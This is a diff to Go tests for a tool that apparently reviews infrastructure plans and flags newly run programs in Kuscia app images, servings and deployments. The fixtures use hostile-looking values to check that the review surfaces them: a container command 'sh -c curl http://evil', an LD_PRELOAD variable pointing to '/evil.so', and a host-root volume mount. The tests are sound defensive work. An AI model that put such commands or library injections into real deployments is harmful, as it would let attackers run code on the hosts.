@@ -94,6 +94,11 @@ func TestWhatRunsFirst(t *testing.T) {
 			},
 			line: "the serving `glm` (`alice` `sf:1` → `evil/sf:1`); the app image `sf` (`image.tag` `1` → `2`), used by servings that this plan does not know",
 		},
+		"a loader beside new programs and tags": {
+			changes: append(tags(30), change("kuscia_app_image.n", created, nil, with(plain, "name", "n")), change("kuscia_serving.glm", created, nil, glm(party("n"))), change("kuscia_app_image.z", updated, plain, padded(0, 0, nil, evil))),
+			line:    "the app image `sf` (`deploy_templates.0.containers.0.env.0.name` none → `LD_PRELOAD`, `deploy_templates.0.containers.0.env.0.value` none → `/evil.so`), used by",
+			rows:    []string{"| `kuscia_app_image.z` | `deploy_templates.0.containers.0.env.0.name` | none | `LD_PRELOAD` |\n|  | `deploy_templates.0.containers.0.env.0.value` | none | `/evil.so` |\n| `kuscia_app_image.n` | `deploy_templates.0.containers.0.command.0` | none | `./serve` |\n| `kuscia_app_image.i0` |"},
+		},
 		"an edge deployment": {
 			changes: []attributes{change("kuscia_edge_deployment.e", updated,
 				attributes{"name": "e", "containers": []any{attributes{"image_url": "sf:1", "command": []any{"a"}, "volumes": []any{attributes{"type": "hostPath", "source": "/data"}}}}},
@@ -114,6 +119,93 @@ func TestWhatRunsFirst(t *testing.T) {
 			}
 		})
 	}
+}
+
+// TestNewPrograms: what is new and runs shows its command, what else decides what it loads and may do, and
+// nothing else of it.
+func TestNewPrograms(t *testing.T) {
+	t.Parallel()
+	evil := attributes{"command": []any{"sh", "-c", "curl http://evil"}}
+	image := padded(3, 5, with(evil, "working_dir", "/x"), attributes{"name": "LD_PRELOAD", "value": "/evil.so"})
+	deployed := func(more attributes) attributes {
+		parties := attributes{"alice": attributes{"app_image": "sf", "replicas": 1, "containers": []any{attributes{"name": "c", "command": []any{"./serve"}}}}}
+		maps.Copy(parties, more)
+		return attributes{"name": "glm", "input_config": "a", "parties": parties}
+	}
+	bob := attributes{"bob": attributes{"app_image": "sf", "replicas": 1, "containers": []any{evil}}}
+	newImage, newServing := change("kuscia_app_image.a", created, nil, image), change("kuscia_serving.glm", created, nil, glm(party("sf")))
+	const (
+		line   = "- Runs a new program: "
+		table  = "### What decides which program runs\n"
+		header = "\n| Object | What | Before | After |\n| --- | --- | --- | --- |\n"
+	)
+	for name, test := range map[string]struct {
+		changes      []attributes
+		says, silent []string
+	}{
+		"an app image and a serving": {
+			changes: []attributes{newImage, newServing},
+			says: []string{
+				line + "the app image `sf` (`deploy_templates.0.containers.0.command.0` `sh`, `-c`, `curl http://evil`, " +
+					"`deploy_templates.0.containers.0.env.3.name` `LD_PRELOAD`, `deploy_templates.0.containers.0.env.3.value` `/evil.so`), used by `glm`\n",
+				table + header + "| `kuscia_app_image.a` | `deploy_templates.0.containers.0.command.0` | none | `sh` |\n|  | `deploy_templates.0.containers.0.command.1` | none | `-c` |\n" +
+					"|  | `deploy_templates.0.containers.0.command.2` | none | `curl http://evil` |\n|  | `deploy_templates.0.containers.0.env.3.name` | none | `LD_PRELOAD` |\n" +
+					"|  | `deploy_templates.0.containers.0.env.3.value` | none | `/evil.so` |\n\n#",
+			},
+		},
+		"an app image whose name only the apply knows": {
+			changes: []attributes{
+				change("kuscia_app_image.a", created, nil, without(image, "name"), unknown(attributes{"name": true})),
+				change("kuscia_serving.glm", created, nil, glm(without(party(""), "app_image")), unknown(attributes{"parties": attributes{"alice": attributes{"app_image": true}}})),
+			},
+			says: []string{line, "| `curl http://evil` |"},
+		},
+		"an app image that nobody uses":                {changes: []attributes{newImage}, silent: []string{line, table}},
+		"an app image that a serving used before":      {changes: []attributes{newImage, change("kuscia_serving.glm", deleted, glm(party("sf")), nil)}, silent: []string{line}},
+		"an app image of another serving":              {changes: []attributes{newImage, change("kuscia_serving.glm", created, nil, glm(party("b")))}, silent: []string{line, table}},
+		"an app image without a command and a serving": {changes: []attributes{change("kuscia_app_image.a", created, nil, appImage("1")), change("kuscia_serving.glm", created, nil, glm(party("a")))}, silent: []string{line, table}},
+		"an app image to which a party moves": {
+			changes: []attributes{newImage, change("kuscia_app_image.b", same, with(image, "name", "b"), with(image, "name", "b")), change("kuscia_serving.glm", updated, glm(party("b")), glm(party("sf")))},
+			says:    []string{"- Runs another program, or in another way: ", "| `kuscia_serving.glm` | `parties.alice.app_image` | `b` | `sf` |\n\n#"}, silent: []string{line},
+		},
+		"a party with its own containers": {
+			changes: []attributes{change("kuscia_deployment.k", updated, deployed(nil), deployed(bob))},
+			says: []string{
+				line + "the serving `glm` (`parties.bob.containers.0.command.0` `sh`, `-c`, `curl http://evil`)\n",
+				"| `kuscia_deployment.k` | `parties.bob.containers.0.command.0` | none | `sh` |\n",
+			},
+			silent: []string{"- Runs another program"},
+		},
+		"a party that leaves": {changes: []attributes{change("kuscia_deployment.k", updated, deployed(bob), deployed(nil))}, silent: []string{line, table}},
+		"a KusciaDeployment": {
+			changes: []attributes{change("kuscia_deployment.k", created, nil, deployed(bob))},
+			says:    []string{line + "the serving `glm` (`parties.alice.containers.0.command.0` `./serve`, `parties.bob.containers.0.command.0` `sh`, `-c`, `curl http://evil`)\n", "| `curl http://evil` |"},
+		},
+		"an edge deployment": {
+			changes: []attributes{change("kuscia_edge_deployment.e", created, nil, attributes{
+				"name": "e", "host_network": true, "host_pid": false, "restart_policy": "Always", "replicas": 1,
+				"containers": []any{attributes{"name": "c", "image_url": "sf:1", "args": []any{"--x"}, "privileged": false, "volumes": []any{attributes{"type": "hostPath", "source": "/"}, attributes{"type": "emptyDir", "source": "disk"}}}},
+			})},
+			says: []string{
+				line + "the edge deployment `e` (`containers.0.image_url` `sf:1`, `containers.0.args.0` `--x`, 3 more)\n",
+				table + header + "| `kuscia_edge_deployment.e` | `containers.0.image_url` | none | `sf:1` |\n|  | `containers.0.args.0` | none | `--x` |\n" +
+					"|  | `containers.0.volumes.0.source` | none | `/` |\n|  | `containers.0.volumes.0.type` | none | `hostPath` |\n|  | `host_network` | none | `true` |\n\n#",
+			},
+		},
+	} {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			review := build(t, planOf(t, nil, test.changes...)).Markdown()
+			protocol.Says(t, "the review", review, test.says...)
+			for _, text := range test.silent {
+				if strings.Contains(review, text) {
+					t.Errorf("the review says %q:\n%s", text, review)
+				}
+			}
+		})
+	}
+	of := build(t, planOf(t, nil, change("kuscia_deployment.k", updated, deployed(nil), deployed(bob)))).For("bob").Markdown()
+	protocol.Says(t, "the review for bob", of, line, "| `curl http://evil` |")
 }
 
 // TestRoomIsUsed: a comment leaves out rows only where it has no room for them, and says how many.
